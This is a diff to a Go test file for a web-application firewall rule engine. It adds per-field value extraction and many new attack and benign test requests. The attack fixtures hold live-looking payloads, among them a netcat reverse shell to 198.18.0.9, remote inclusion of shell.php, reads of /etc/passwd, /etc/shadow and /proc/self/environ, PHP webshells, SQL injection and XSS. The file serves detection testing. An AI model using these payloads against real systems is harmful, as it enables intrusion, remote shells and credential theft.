@@ -1,10 +1,14 @@
 package rules
 
 import (
+	"bytes"
 	"net/url"
 	"sort"
 	"strings"
 	"testing"
+
+	"github.com/deepwall/deepwall/dpi/proto"
+	dwhttp "github.com/deepwall/deepwall/dpi/proto/http"
 )
 
 // txn is one HTTP exchange as the DPI engine would present it.
@@ -60,6 +64,76 @@ func (t txn) fields() Fields {
 	}
 	return f
 }
+
+// values gives every field of the exchange as the DPI engine splits it:
+// the classic whole fields of fields(), plus each argument (query and
+// body, through the engine's own parsers), argument name, cookie, cookie
+// name, header value and name, and uploaded file name.
+func (t txn) values() Values {
+	v := Values{}
+	for f, b := range t.fields() {
+		v[f] = []Value{{Data: b}}
+	}
+	add := func(k FieldKind, name, data []byte) {
+		f := Field{Kind: k}
+		v[f] = append(v[f], Value{Name: bytes.Clone(name), Data: bytes.Clone(data)})
+	}
+	sink := &packArgs{add: add}
+	if _, query, ok := strings.Cut(t.uri, "?"); ok {
+		var found proto.KindSet
+		_, args := dwhttp.DecodeArgs(nil, nil, []byte(query), 256, &found)
+		for _, a := range args {
+			sink.Arg(a.Name, a.Value)
+		}
+	}
+	if t.body != "" {
+		ct := "application/x-www-form-urlencoded"
+		switch {
+		case strings.HasPrefix(t.body, "{") || strings.HasPrefix(t.body, "["):
+			ct = "application/json"
+		case strings.HasPrefix(t.body, "--"):
+			b, _, _ := strings.Cut(t.body[2:], "\r\n")
+			ct = "multipart/form-data; boundary=" + b
+		}
+		k, boundary := dwhttp.BodyKindOf([]byte(ct))
+		var found proto.KindSet
+		dwhttp.ParseBody(k, boundary, []byte(t.body), nil, 1024, sink, &found)
+	}
+	hdrs := t.headers
+	if hdrs == nil {
+		hdrs = browserHeaders
+	}
+	for _, h := range hdrs {
+		add(FieldHTTPHeaderValue, []byte(strings.ToLower(h[0])), []byte(h[1]))
+		add(FieldHTTPHeaderName, nil, []byte(h[0]))
+		if !strings.EqualFold(h[0], "cookie") {
+			continue
+		}
+		for _, c := range strings.Split(h[1], ";") {
+			if c = strings.TrimSpace(c); c == "" {
+				continue
+			}
+			name, val, _ := strings.Cut(c, "=")
+			add(FieldHTTPCookie, []byte(name), []byte(val))
+			add(FieldHTTPCookieName, nil, []byte(name))
+		}
+	}
+	return v
+}
+
+// packArgs collects what the engine's body parser reports.
+type packArgs struct {
+	add func(k FieldKind, name, data []byte)
+}
+
+func (a *packArgs) Arg(name, value []byte) {
+	a.add(FieldHTTPArg, name, value)
+	a.add(FieldHTTPArgName, nil, name)
+}
+
+func (a *packArgs) File(field, filename []byte) { a.add(FieldHTTPFile, field, filename) }
+
+func (a *packArgs) PartHeader(line []byte) { a.add(FieldHTTPPartHeader, nil, line) }
 
 func withHeader(name, value string) [][2]string {
 	h := append([][2]string{}, browserHeaders...)
@@ -183,6 +257,39 @@ var packAttacks = []struct {
 	{"java deserialization", "java", txn{uri: "/api/obj", body: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"}},
 	{"java runtime exec", "java", txn{uri: "/eval?expr=" + q("T(java.lang.Runtime).getRuntime().exec('id')")}},
 	{"struts ognl", "java", txn{uri: "/upload.action", headers: withHeader("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}")}},
+	// Attacks in the per-value fields: cookies, header values and names,
+	// argument names, JSON and multipart values, uploaded file names.
+	{"lfi cookie", "lfi", txn{uri: "/", headers: withHeader("Cookie", "lang=en; tpl=..%2f..%2f..%2fetc%2fpasswd")}},
+	{"lfi header value", "lfi", txn{uri: "/", headers: withHeader("X-Include", "/proc/self/environ")}},
+	{"lfi upload filename", "lfi", txn{uri: "/upload", body: "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../var/www/x.txt\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b1--\r\n"}},
+	{"lfi agent config", "lfi", txn{uri: "/.claude/settings.json"}},
+	{"lfi argument name", "lfi", txn{uri: "/get?%2Fetc%2Fshadow=1"}},
+	{"rfi ip url", "rfi", txn{uri: "/view?src=http://198.18.0.9/shell.php"}},
+	{"rce windows for", "rce", txn{uri: "/run?x=" + q(`FOR /F "tokens=1" %%G IN ('dir') DO echo %%G`)}},
+	{"rce header", "rce", txn{uri: "/", headers: withHeader("X-Cmd", "; ls -la /")}},
+	{"rce json pipe netcat", "rce", txn{uri: "/api/ping", body: `{"host":"x | nc -e /bin/sh 198.18.0.9 4444"}`}},
+	{"rce glob", "rce", txn{uri: "/get?id=cat+/et*/*wd"}},
+	{"rce bin path", "rce", txn{uri: "/get?shell=/usr/bin/python3"}},
+	{"rce node child_process", "rce", txn{uri: "/eval?x=" + q("require('child_process').exec('id')")}},
+	{"rce template injection", "rce", txn{uri: "/hello?name=" + q("{{7*7}}")}},
+	{"rce python", "rce", txn{uri: "/eval?x=" + q("__import__('os').system('id')")}},
+	{"php tag", "php", txn{uri: "/get?x=" + q("<?php system($_GET['c']); ?>")}},
+	{"php function in form", "php", txn{uri: "/save", body: "x=" + q("file_put_contents('a.php', base64_decode($c))")}},
+	{"php object in cookie", "php", txn{uri: "/", headers: withHeader("Cookie", `prefs=O:8:"stdClass":1:{s:1:"a";i:1;}`)}},
+	{"php wrapper", "php", txn{uri: "/index.php?page=php://filter/convert.base64-encode/resource=index.php"}},
+	{"php variable function", "php", txn{uri: "/get?x=" + q("(sy.(st).em)('uname');")}},
+	{"php upload", "php", txn{uri: "/upload", body: "--b2\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.phtml\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b2--\r\n"}},
+	{"java class in cookie name", "java", txn{uri: "/", headers: withHeader("Cookie", "java.lang.Runtime=x")}},
+	{"java gadget json name", "java", txn{uri: "/api/obj", body: `{"org.apache.commons.collections.functors.InvokerTransformer":"x"}`}},
+	{"java gadget base64 header", "java", txn{uri: "/", headers: withHeader("X-Data", "cHJvY2Vzc2J1aWxkZXI=")}},
+	{"java el expression", "java", txn{uri: "/get?x=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")}},
+	{"xss cookie", "xss", txn{uri: "/", headers: withHeader("Cookie", "lang=en; name=%3Cscript%3Ealert(1)%3C%2Fscript%3E")}},
+	{"xss referer", "xss", txn{uri: "/", headers: withHeader("Referer", "https://x.example/<svg/onload=alert(1)>")}},
+	{"xss argument name", "xss", txn{uri: "/get?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1"}},
+	{"sqli header", "sqli", txn{uri: "/", headers: withHeader("X-Forwarded-For", "1' union select password from users--")}},
+	{"sqli function json", "sqli", txn{uri: "/api/items", body: `{"id":"1 and ascii(substring(version(),1,1))>52"}`}},
+	{"sqli user agent", "sqli", txn{uri: "/", headers: withHeader("User-Agent", "x' or 1=1-- -")}},
+	{"session fixation", "session", txn{uri: "/login?jsessionid=0123456789abcdef"}},
 	// Scanners and protocol
 	{"scanner sqlmap", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")}},
 	{"scanner nikto", "scanner", txn{uri: "/", headers: withHeader("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")}},
@@ -247,6 +354,10 @@ var packBenign = []struct {
 	{"search with operators", txn{uri: "/search?q=" + q(`"exact phrase" -exclude site:example.com OR (a AND b) | c`)}},
 	{"url in parameter", txn{uri: "/share?url=" + q("https://news.example.com/2024/01/15/article-title?ref=home&utm_source=x") + "&title=" + q("Breaking: what's next?")}},
 	{"multipart upload", txn{uri: "/upload", body: "--boundary123\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\nContent-Type: text/csv\r\n\r\nid,name,amount\n1,Anna,12.50\n2,\"Müller, Jörg\",7.00\n--boundary123--\r\n"}},
+	{"json parentheses and semicolons", txn{uri: "/api/v1/notes", body: `{"note":"call me (after 5pm) or email; thanks! version 2 (beta) is fine","items":["a & b","c | d"]}`}},
+	{"search about tools", txn{uri: "/search?q=" + q("how to use curl with a proxy (linux) - cat /var/www permissions?")}},
+	{"proxy path headers", txn{uri: "/account", headers: append(withHeader("X-Original-URL", "/account/settings?tab=security"), [2]string{"X-Request-Start", "t=1700000000123"})}},
+	{"form select and order words", txn{uri: "/feedback", body: "text=" + q("Please select a size and order by Friday; or call us at 555-0100 (ext. 2).")}},
 	{"response mentions aws generically", txn{uri: "/docs", resp: "Set AWS_SECRET_ACCESS_KEY in your environment; never commit it. See https://docs.aws.amazon.com/."}},
 }
 
@@ -271,7 +382,7 @@ func evalTxn(tb testing.TB, c *Compiled, t txn) []*Rule {
 		tb.Fatal(err)
 	}
 	defer s.Free()
-	hits, err := c.Eval(t.fields(), s)
+	hits, err := c.EvalValues(t.values(), s)
 	if err != nil {
 		tb.Fatal(err)
 	}
